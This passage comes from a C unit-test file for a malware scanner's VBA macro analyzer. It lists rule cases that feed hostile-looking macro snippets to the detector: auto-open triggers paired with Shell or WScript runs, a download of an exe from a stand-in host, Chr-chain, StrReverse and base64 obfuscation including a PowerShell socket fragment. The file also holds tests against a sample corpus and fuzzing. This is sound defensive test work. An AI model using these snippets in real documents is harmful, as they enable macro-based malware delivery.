    assert_int_equal(fg_result_verdict(r), FG_VERDICT_SUSPICIOUS); /* a .lnk: medium */
    fg_result_free(r);
    fg_engine_free(e);
    free(b);
    free(ob);
    free(doc.p);
    free(nat.p);
}

/* ---- the analyzer's rules on macro text ---- */

struct rule_case {
    const char *name;
    const char *text;
    const char *id;        /* a finding that must be there (NULL: none at all but vba.macros) */
    int sev;               /* its severity */
    enum fg_verdict verdict;
    const char *evidence;  /* in that finding's evidence */
    const char *absent;    /* a finding that must not be there */
};

static const struct rule_case rule_cases[] = {
    {"plain", "Sub Totals()\r\n  Range(\"A1\").Value = 1\r\nEnd Sub\r\n", "vba.macros",
     FG_SEV_INFO, FG_VERDICT_CLEAN, "3 line(s)", "vba.execute"},
    {"dictionary", "Sub A()\r\nSet d = CreateObject(\"Scripting.Dictionary\")\r\nEnd Sub\r\n",
     "vba.macros", FG_SEV_INFO, FG_VERDICT_CLEAN, NULL, "vba.execute"},
    {"autoopen alone", "Sub AutoOpen()\r\n  MsgBox \"Welcome\"\r\nEnd Sub\r\n", "vba.autoexec",
     FG_SEV_LOW, FG_VERDICT_CLEAN, "m.bas:1: Sub AutoOpen()", "vba.autoexec-action"},
    {"workbook_open alone", "Private Sub Workbook_Open()\r\nEnd Sub\r\n", "vba.autoexec",
     FG_SEV_LOW, FG_VERDICT_CLEAN, "Workbook_Open", NULL},
    {"activex layout", "Private Sub Frame1_Layout()\r\nEnd Sub\r\n", "vba.autoexec", FG_SEV_LOW,
     FG_VERDICT_CLEAN, NULL, NULL},
    {"userform event", "Private Sub UserForm_Resize()\r\nEnd Sub\r\n", "vba.macros",
     FG_SEV_INFO, FG_VERDICT_CLEAN, NULL, "vba.autoexec"},
    {"shell alone", "Sub A()\r\n  x = Shell(\"notepad.exe\", 1)\r\nEnd Sub\r\n", "vba.execute",
     FG_SEV_MEDIUM, FG_VERDICT_SUSPICIOUS, "m.bas:2: x = Shell(\"notepad.exe\", 1)", NULL},
    {"shell ioc", "Sub A()\r\n  x = Shell(\"notepad.exe\", 1)\r\nEnd Sub\r\n", "vba.ioc",
     FG_SEV_INFO, FG_VERDICT_SUSPICIOUS, "notepad.exe (m.bas:2:", NULL},
    {"powershell string", "s = \"powershell -nop -w hidden -c calc\"\r\n", "vba.execute",
     FG_SEV_MEDIUM, FG_VERDICT_SUSPICIOUS, "powershell", NULL},
    {"download api", "Private Declare PtrSafe Function URLDownloadToFileA Lib \"urlmon\" _\r\n"
     "  (ByVal a As LongPtr, ByVal b As String, ByVal c As String, ByVal d As Long, _\r\n"
     "   ByVal e As LongPtr) As Long\r\n", "vba.download", FG_SEV_MEDIUM,
     FG_VERDICT_SUSPICIOUS, "m.bas:1: Private Declare PtrSafe Function URLDownloadToFileA", NULL},
    {"benign declare", "Private Declare PtrSafe Function GetTickCount Lib \"kernel32\" () As Long\r\n",
     "vba.api", FG_SEV_LOW, FG_VERDICT_CLEAN, "GetTickCount", NULL},
    {"copymemory alias", "Private Declare PtrSafe Sub CopyMemory Lib \"kernel32\" Alias "
     "\"RtlMoveMemory\" (d As Any, s As Any, ByVal n As LongPtr)\r\n", "vba.api", FG_SEV_LOW,
     FG_VERDICT_CLEAN, "CopyMemory", NULL},
    {"shellcode api", "Private Declare PtrSafe Function VirtualAlloc Lib \"kernel32\" "
     "(ByVal a As LongPtr, ByVal b As Long, ByVal c As Long, ByVal d As Long) As LongPtr\r\n",
     "vba.api", FG_SEV_MEDIUM, FG_VERDICT_SUSPICIOUS, "VirtualAlloc", NULL},
    {"write file", "Sub A()\r\nOpen \"C:\\temp\\log.txt\" For Output As #1\r\nClose #1\r\nEnd Sub\r\n",
     "vba.write", FG_SEV_LOW, FG_VERDICT_CLEAN, "m.bas:2: Open", NULL},
    {"read file", "Sub A()\r\nOpen f For Input As #1\r\nEnd Sub\r\n", "vba.macros", FG_SEV_INFO,
     FG_VERDICT_CLEAN, NULL, "vba.write"},
    {"kill", "Sub A()\r\n  Kill \"C:\\temp\\*.tmp\"\r\nEnd Sub\r\n", "vba.write", FG_SEV_LOW,
     FG_VERDICT_CLEAN, "Kill", NULL},
    {"wscript.shell alone", "Set w = CreateObject(\"WScript.Shell\")\r\n"
     "p = w.SpecialFolders(\"Desktop\")\r\n", "vba.execute", FG_SEV_LOW, FG_VERDICT_CLEAN,
     "WScript.Shell", NULL},
    {"wscript.shell run", "Set w = CreateObject(\"WScript.Shell\")\r\nw.Run \"notepad\", 0\r\n",
     "vba.execute", FG_SEV_MEDIUM, FG_VERDICT_SUSPICIOUS, "m.bas:2: w.Run", NULL},
    {"downloader", "Set x = CreateObject(\"MSXML2.XMLHTTP\")\r\nx.Open \"GET\", u, False\r\n"
     "Set s = CreateObject(\"ADODB.Stream\")\r\ns.SaveToFile p, 2\r\n", "vba.download",
     FG_SEV_MEDIUM, FG_VERDICT_SUSPICIOUS, "MSXML2.XMLHTTP", NULL},
    {"comment", "Sub A()\r\n' Shell \"cmd.exe /c calc\"\r\n  Rem Shell \"powershell\"\r\n"
     "  x = 1 ' URLDownloadToFile\r\nEnd Sub\r\n", "vba.macros", FG_SEV_INFO, FG_VERDICT_CLEAN,
     NULL, "vba.execute"},
    {"continued comment", "' first _\r\n Shell \"cmd.exe\"\r\n", NULL, 0, FG_VERDICT_CLEAN, NULL,
     "vba.execute"},
    {"word in a string", "MsgBox \"Open the shell; kill the lights\"\r\n", "vba.macros",
     FG_SEV_INFO, FG_VERDICT_CLEAN, NULL, "vba.execute"},
    {"chr chain", "u = Chr(104) & Chr(116) & Chr(116) & Chr(112) & Chr(58) & Chr(47) & "
     "Chr(47) & Chr(101) & Chr(118) & Chr(105) & Chr(108) & \".example/x\"\r\n",
     "vba.obfuscation", FG_SEV_MEDIUM, FG_VERDICT_SUSPICIOUS, "decoded: http://evil.example/x",
     NULL},
    {"chr chain url", "u = Chr(104) & Chr(116) & Chr(116) & Chr(112) & Chr(58) & Chr(47) & "
     "Chr(47) & Chr(101) & Chr(118) & Chr(105) & Chr(108) & \".example/x\"\r\n", "vba.ioc",
     FG_SEV_INFO, FG_VERDICT_SUSPICIOUS, "http://evil.example/x", NULL},
    {"chr chain keeps its spaces", "c = Chr(99) & Chr(109) & Chr(100) & Chr(32) & Chr(47) & "
     "Chr(99) & Chr(32) & Chr(99) & Chr(97) & Chr(108) & Chr(99)\r\n", "vba.execute",
     FG_SEV_MEDIUM, FG_VERDICT_SUSPICIOUS, "decoded: cmd /c calc", NULL},
    {"line breaks are not a chain", "s = \"a\" & Chr(13) & Chr(10) & \"b\" & Chr(34) & Chr(13) & "
     "Chr(10) & Chr(9) & Chr(13) & Chr(10) & Chr(34)\r\n", "vba.macros", FG_SEV_INFO,
     FG_VERDICT_CLEAN, NULL, "vba.obfuscation"},
    {"strreverse", "f = StrReverse(\"exe.tneilc\\pmet\\:C\")\r\n", "vba.obfuscation",
     FG_SEV_MEDIUM, FG_VERDICT_SUSPICIOUS, "decoded: C:\\temp\\client.exe", NULL},
    {"replace", "c = Replace(\"pQowQersQhell -enc\", \"Q\", \"\")\r\n", "vba.execute",
     FG_SEV_MEDIUM, FG_VERDICT_SUSPICIOUS, "decoded: powershell -enc", NULL},
    {"base64", "p = \"JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0ACAAUwB5AHMAdABlAG0ALgBOAG"
     "UAdAAuAFMAbwBjAGsAZQB0AHMALgBUAEMAUABDAGwAaQBlAG4AdAA=\"\r\n", "vba.obfuscation",
     FG_SEV_MEDIUM, FG_VERDICT_SUSPICIOUS, "decoded: $client = New-Object System.Net.Sockets",
     NULL},
    {"hex", "p = \"4D5A90000300000004000000FFFF0000B800000000000000400000000000000000000000000000"
     "00000000000000000000000000\"\r\n", "vba.obfuscation", FG_SEV_MEDIUM,
     FG_VERDICT_SUSPICIOUS, "m.bas:1: p = \"4D5A9000", NULL},
    {"computed progid", "Set o = CreateObject(\"WScr\" & \"ipt.Sh\" & \"ell\")\r\n", "vba.execute",
     FG_SEV_LOW, FG_VERDICT_CLEAN, "CreateObject(", NULL},
    {"progid in a variable", "Set o = CreateObject(progId)\r\n", "vba.macros", FG_SEV_INFO,
     FG_VERDICT_CLEAN, NULL, "vba.execute"},
    {"ip", "h = \"192.168.10.5\": v = \"1.2.3.4.5\"\r\n", "vba.ioc", FG_SEV_INFO, FG_VERDICT_CLEAN,
     "192.168.10.5 (", NULL},
    {"autoopen and shell", "Sub AutoOpen()\r\n  Shell \"calc.exe\"\r\nEnd Sub\r\n",
     "vba.autoexec-action", FG_SEV_HIGH, FG_VERDICT_MALICIOUS,
     "m.bas:1: Sub AutoOpen() ; m.bas:2: Shell \"calc.exe\"", NULL},
    {"document_open and download", "Private Sub Document_Open()\r\n"
     "  URLDownloadToFile 0, \"http://x.example/a.exe\", Environ(\"TEMP\") & \"\\a.exe\", 0, 0\r\n"
     "End Sub\r\n", "vba.autoexec-action", FG_SEV_HIGH, FG_VERDICT_MALICIOUS, "URLDownloadToFile",
     NULL},
    {"workbook_open and write", "Private Sub Workbook_Open()\r\n"
     "  Open Environ(\"APPDATA\") & \"\\x.vbs\" For Output As #1\r\nEnd Sub\r\n",
     "vba.autoexec-action", FG_SEV_HIGH, FG_VERDICT_MALICIOUS, "Open Environ", NULL},
    {"autoopen and dictionary", "Sub AutoOpen()\r\nSet d = CreateObject(\"Scripting.Dictionary\")\r\n"
     "End Sub\r\n", "vba.autoexec", FG_SEV_LOW, FG_VERDICT_CLEAN, NULL, "vba.autoexec-action"},
    {"autoopen and obfuscation", "Sub AutoOpen()\r\nx = StrReverse(\"dlrow\")\r\nEnd Sub\r\n",
     "vba.obfuscation", FG_SEV_MEDIUM, FG_VERDICT_SUSPICIOUS, NULL, "vba.autoexec-action"},
    {"strreverse on a variable", "i = InStr(StrReverse(p), \"\\\")\r\n", "vba.obfuscation",
     FG_SEV_LOW, FG_VERDICT_CLEAN, "StrReverse(p)", NULL},
    {"autoopen and special folders", "Sub AutoOpen()\r\nSet w = CreateObject(\"WScript.Shell\")\r\n"
     "d = w.SpecialFolders(\"Desktop\")\r\nEnd Sub\r\n", "vba.execute", FG_SEV_LOW,
     FG_VERDICT_CLEAN, NULL, "vba.autoexec-action"},
    {"autoopen and wscript run", "Sub AutoOpen()\r\nWith CreateObject(\"WScript.Shell\")\r\n"
     "  .Run \"notepad\", 0\r\nEnd With\r\nEnd Sub\r\n", "vba.autoexec-action", FG_SEV_HIGH,
     FG_VERDICT_MALICIOUS, "m.bas:3: .Run", NULL},
    {"wmi process", "Set p = GetObject(\"winmgmts:\").Get(\"Win32_Process\")\r\n"
     "p.Create \"calc.exe\", Null, Null, pid\r\n", "vba.execute", FG_SEV_MEDIUM,
     FG_VERDICT_SUSPICIOUS, "m.bas:2: p.Create", NULL},
};

static void test_rules(void **state)
{
    (void)state;
    fg_engine *e = tu_engine(NULL);
    fg_scanner *sc = NULL;
    assert_int_equal(fg_scanner_new(e, &sc), 0);
    for (size_t i = 0; i < sizeof rule_cases / sizeof rule_cases[0]; i++) {
        const struct rule_case *c = &rule_cases[i];
        fg_result *r = NULL;
        assert_int_equal(fg_scan_mem_as(sc, "m.bas", c->text, strlen(c->text), "vba", &r), 0);
        const struct fg_finding *f = c->id ? find_any(r, c->id) : NULL;
        const char *bad = NULL;
        if (c->id && !f)
            bad = "finding missing";
        else if (f && (int)f->severity != c->sev)
            bad = "wrong severity";
        else if (f && c->evidence && !strstr(f->evidence, c->evidence))
            bad = "evidence does not show the line";
        else if (fg_result_verdict(r) != c->verdict)
            bad = "wrong verdict";
        else if (c->absent && find_any(r, c->absent))
            bad = "a finding that should not be there";
        else if (!c->id && max_vba_severity(r) > FG_SEV_INFO)
            bad = "an indicator where there is none";
        if (bad) {
            tu_dump(r);
            fail_msg("%s: %s", c->name, bad);
        }
        fg_result_free(r);
    }
    fg_scanner_free(sc);
    fg_engine_free(e);
}

/* Long and hostile text: one 1 MB line, a million short ones, continuations without end. */
static void test_hostile_text(void **state)
{
    (void)state;
    fg_engine *e = tu_engine(NULL);
    fg_scanner *sc = NULL;
    assert_int_equal(fg_scanner_new(e, &sc), 0);
    size_t n = 1 << 20;
    char *t = malloc(n);
    assert_non_null(t);
    static const char *const fills[] = {
        "Chr(65)&", "\"", "x _\n", "\n", "a.exe.", "1.1.1.1.", "http://",
        "Replace(\"a\",\"\",\"b\")", "open:", "x = Replace(\"aaaaaaaaaaaaaaaaaaaa\", \"a\", \"bb\") ",
        "StrReverse(\"exe.x\")&", "\"TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAA\" & _\r\n",
        "CreateObject(CreateObject(", "Declare Function VirtualAlloc Lib \"k\" Alias \"VirtualAlloc\"\n"};
    for (size_t f = 0; f < sizeof fills / sizeof fills[0]; f++) {
        size_t fl = strlen(fills[f]);
        for (size_t i = 0; i < n; i++)
            t[i] = fills[f][i % fl];
        fg_result *r = NULL;
        assert_int_equal(fg_scan_mem_as(sc, "m.bas", t, n, "vba", &r), 0);
        fg_result_free(r);
    }
    free(t);
    fg_scanner_free(sc);
    fg_engine_free(e);
}

/* ---- the oletools documents ---- */

#define CORPUS(var, rel, len)                                                                    \
    uint8_t *var = tu_oletools(rel, &len);                                                       \
    if (!var) {                                                                                  \
        print_message("oletools corpus not found; skipped\n");                                   \
        skip();                                                                                  \
    }

static fg_result *scan_corpus(fg_engine *e, const char *rel, uint8_t **data)
{
    size_t len;
    *data = tu_oletools(rel, &len);
    if (!*data)
        return NULL;
    return tu_scan(e, rel, *data, len);
}

static void test_corpus_ppt(void **state)
{
    (void)state;
    size_t len;
    CORPUS(b, "olevba/sample_with_vba.ppt", len);
    fg_engine *e = tu_engine(NULL);
    fg_result *r = tu_scan(e, "sample_with_vba.ppt", b, len);
    const struct fg_object_info *m =
        tu_object(r, "sample_with_vba.ppt > PowerPoint Document/VbaProjectStg > VBA/Module1.bas");
    if (!m)
        tu_dump(r);
    assert_non_null(m);
    assert_string_equal(m->type, "vba");
    assert_non_null(find_on(m, "vba.macros"));
    assert_false(tu_has_finding(r, "malformed.*"));
    fg_result_free(r);
    fg_engine_free(e);
    free(b);
}

static void test_corpus_oleform(void **state)
{
    (void)state;
    size_t len;
    CORPUS(b, "oleform/oleform-PR314.docm", len);
    fg_engine *e = tu_engine(NULL);
    fg_result *r = tu_scan(e, "f.docm", b, len);
    static const char *const names[] = {
        "f.docm > word/vbaProject.bin > VBA/ThisDocument.cls",
        "f.docm > word/vbaProject.bin > VBA/NewMacros.bas",
        "f.docm > word/vbaProject.bin > VBA/UserFormTEST1.frm",
        "f.docm > word/vbaProject.bin > VBA/UserFormTest2.frm",
    };
    for (size_t i = 0; i < sizeof names / sizeof names[0]; i++) {
        const struct fg_object_info *o = tu_object(r, names[i]);
        if (!o) {
            tu_dump(r);
            fail_msg("no %s", names[i]);
        }
        assert_string_equal(o->type, "vba");
    }
    assert_false(tu_has_finding(r, "malformed.*"));
    assert_int_equal(fg_result_verdict(r), FG_VERDICT_CLEAN);
    fg_result_free(r);
    fg_engine_free(e);
    free(b);
}

/* Documents without macros stay clean and without any vba finding. */
static void test_corpus_clean(void **state)
{
    (void)state;
    static const char *const files[] = {"msodde/harmless-clean.docm", "msodde/harmless-clean.doc",
                                        "msodde/harmless-clean.docx"};
    fg_engine *e = tu_engine(NULL);
    for (size_t i = 0; i < sizeof files / sizeof files[0]; i++) {
        uint8_t *b;
        fg_result *r = scan_corpus(e, files[i], &b);
        if (!r) {
            fg_engine_free(e);
            skip();
        }
        if (fg_result_verdict(r) != FG_VERDICT_CLEAN || tu_has_finding(r, "vba.*")) {
            tu_dump(r);
            fail_msg("%s is not clean", files[i]);
        }
        fg_result_free(r);
        free(b);
    }
    fg_engine_free(e);
}

/*
 * Excel files encrypted with the built-in password "VelvetSweatshop".  In the .xls (RC4) only
 * the Workbook stream is encrypted; its VBA project is stored in the clear, so the auto-run
 * macro is found.  The .xlsm and .xlsb are ECMA-376 encrypted: all content, the VBA project
 * included, is inside EncryptedPackage, which is opened with the default password
 * (office_crypto.c), so their auto-run macros are found too.
 */
static void test_corpus_encrypted(void **state)
{
    (void)state;
    fg_engine *e = tu_engine(NULL);
    uint8_t *b;
    fg_result *r = scan_corpus(e, "encrypted/autostart-encrypt-standardpassword.xls", &b);
    if (!r) {
        fg_engine_free(e);
        skip();
    }
    if (!find_any(r, "vba.autoexec"))
        tu_dump(r);
    assert_non_null(find_any(r, "vba.autoexec"));
    assert_non_null(tu_object(r, "_VBA_PROJECT_CUR/VBA/Modul1.bas"));
    assert_non_null(tu_object(r, "_VBA_PROJECT_CUR/VBA/DieseArbeitsmappe.cls"));
    fg_result_free(r);
    free(b);
    static const char *const ecma[] = {"encrypted/autostart-encrypt-standardpassword.xlsm",
                                       "encrypted/autostart-encrypt-standardpassword.xlsb"};
    for (size_t i = 0; i < 2; i++) {
        r = scan_corpus(e, ecma[i], &b);
        assert_non_null(r);
        assert_non_null(find_any(r, "encrypted.opened"));
        assert_null(find_any(r, "encrypted.office"));
        assert_non_null(find_any(r, "vba.autoexec"));
        fg_result_free(r);
        free(b);
    }
    fg_engine_free(e);
}

/* Excel 4.0 macro sheets are no VBA: whatever VBA project these carry, nothing breaks. */
static void test_corpus_excel4(void **state)
{
    (void)state;
    static const char *const files[] = {
        "excel4-macros/excel4_sample_macro.xls",  "excel4-macros/excel4_sample_macro.xlsb",
        "excel4-macros/excel4_sample_macro.xlsm", "excel4-macros/excel4_sample_macro.xlt",
        "excel4-macros/excel4_sample_macro.xltm", "excel4-macros/excel4_sample_macro_excel5_format.xls",
        "excel4-macros/excel4_sample_macro.slk"};
    fg_engine *e = tu_engine(NULL);
    for (size_t i = 0; i < sizeof files / sizeof files[0]; i++) {
        uint8_t *b;
        fg_result *r = scan_corpus(e, files[i], &b);
        if (!r) {
            fg_engine_free(e);
            skip();
        }
        assert_false(tu_has_finding(r, "malformed.member"));
        assert_true(max_vba_severity(r) <= FG_SEV_LOW);
        fg_result_free(r);
        free(b);
    }
    fg_engine_free(e);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(test_decompress_spec_example, tu_tmpdir_setup,
                                        tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_decompress_literals, tu_tmpdir_setup,
                                        tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_decompress_copy_token_split, tu_tmpdir_setup,
                                        tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_decompress_raw_chunk, tu_tmpdir_setup,
                                        tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_decompress_malformed, tu_tmpdir_setup,
                                        tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_project_modules, tu_tmpdir_setup, tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_doc_layout_and_signature, tu_tmpdir_setup,
                                        tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_codepage, tu_tmpdir_setup, tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_damaged_modules, tu_tmpdir_setup, tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_damaged_dir, tu_tmpdir_setup, tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_mutations, tu_tmpdir_setup, tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_ppt_project, tu_tmpdir_setup, tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_ppt_embedded_object, tu_tmpdir_setup,
                                        tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_rules, tu_tmpdir_setup, tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_hostile_text, tu_tmpdir_setup, tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_corpus_ppt, tu_tmpdir_setup, tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_corpus_oleform, tu_tmpdir_setup, tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_corpus_clean, tu_tmpdir_setup, tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_corpus_encrypted, tu_tmpdir_setup,
                                        tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_corpus_excel4, tu_tmpdir_setup, tu_tmpdir_teardown),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
